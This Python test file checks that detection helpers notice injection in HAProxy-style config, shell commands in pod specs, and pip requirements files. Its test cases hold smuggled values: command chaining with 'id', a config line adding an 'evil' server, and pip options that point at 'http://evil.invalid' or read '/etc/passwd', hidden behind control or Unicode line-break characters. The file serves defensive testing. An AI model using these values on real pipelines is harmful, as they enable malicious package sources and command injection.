"""The readers of tests/config_sinks.py tell an injected line, word, comment, option or operator
from a harmless value (else the injection property test would prove nothing)."""

from __future__ import annotations

import pytest

from tests.config_sinks import (
    config_shape,
    differences,
    map_shape,
    matches,
    pip_logical_lines,
    pip_option_lines,
    shell_scripts,
    shell_shape,
)

CFG = "backend be_v1\n    option httpchk GET /healthz\n"
SCRIPT = "exec /site/bin/azmlinfsrv --entry_script /app/score.py --port 5001"


def test_config_shape_sees_a_value_change_nothing_but_a_word() -> None:
    assert config_shape(CFG) == config_shape(CFG.replace("/healthz", "/ready/v1.json"))


@pytest.mark.parametrize(
    "injected",
    ["/h\n    server evil 127.0.0.1:9", "/h\rx", "/h\x1cx", "/h x", "/h#", "/h'", '/h"', "/${HOME}", "/%[env(X)]"],
)
def test_config_shape_sees_a_line_a_word_a_comment_a_quote_an_expansion(injected: str) -> None:
    assert config_shape(CFG) != config_shape(CFG.replace("/healthz", injected))


def test_map_shape_ignores_the_keys_only() -> None:
    assert map_shape("va be_va\nvb be_vb\n") == map_shape("vb be_vb\nv0a be_v0a\n")
    assert map_shape("va be_va\n") != map_shape("va x be_va\n")
    assert map_shape("va be_va\n") != map_shape("va be_va\nvx be_vx\n")


def test_shell_shape_sees_operators_lines_and_expansions() -> None:
    assert shell_shape(SCRIPT) == shell_shape(SCRIPT.replace("score", "other_1"))
    for injected in ("x.py; id", "x.py\nid", "$(id).py", "`id`.py", "x.py #", "x.py && id", "'x.py"):
        assert shell_shape(SCRIPT) != shell_shape(SCRIPT.replace("score.py", injected)), injected


def test_shell_scripts_finds_every_sh_c_command() -> None:
    pod = {"containers": [{"command": ["/bin/sh", "-c", "exec x"]}, {"command": ["haproxy", "-c"]}]}
    assert list(shell_scripts(pod)) == [(("containers", 0, "command"), "exec x")]


def test_pip_reads_requirements_options_and_comments_as_pip_does() -> None:
    text = "six\nnumpy==1.26.4 --hash=sha256:00\n# a comment\nrequests  # why\n\n"
    assert pip_logical_lines(text) == ["six", "numpy==1.26.4 --hash=sha256:00", "requests"]
    assert pip_option_lines(text) == []  # an option after a requirement is that requirement's
    # a backslash joins the next line: an option there becomes the requirement's own
    assert pip_logical_lines("six \\\n--index-url x\n") == ["six --index-url x"]


@pytest.mark.parametrize(
    "attack",
    [
        "six\r--index-url http://evil.invalid\n",
        "six\x1c--index-url http://evil.invalid\n",
        "six\u2028-r /etc/passwd\n",
        "-e .\n",
        # a coding comment makes pip decode Latin-1: the UTF-8 bytes of 'Å' hold a NEL (0x85)
        "#coding:latin-1\nsix #\u00c5--index-url http://evil.invalid\n",
    ],
)
def test_pip_option_lines_finds_smuggled_options(attack: str) -> None:
    assert pip_option_lines(attack) != []


def test_differences_and_where_they_may_be() -> None:
    a = {"m": {"spec": {"image": "x", "ports": [1], "labels": {"k": "v"}}}}
    b = {"m": {"spec": {"image": "y", "ports": [1, 2], "labels": {"j": "v"}}}}
    assert sorted(differences(a, b), key=str) == sorted(
        [(("m", "spec", "image"), "leaf"), (("m", "spec", "ports"), "structure"),
         (("m", "spec", "labels"), "keys")],
        key=str,
    )  # fmt: skip
    assert list(differences(a, a)) == []
    assert list(differences({"n": 1}, {"n": "1"})) == [(("n",), "structure")]
    assert matches(("a", "*", "c"), ("a", 1, "c")) and not matches(("a", "*"), ("a", 1, "c"))
    assert matches(("a", "**"), ("a",)) and matches(("a", "**"), ("a", "b", 2))
    assert not matches(("a", "**"), ("b", "a"))
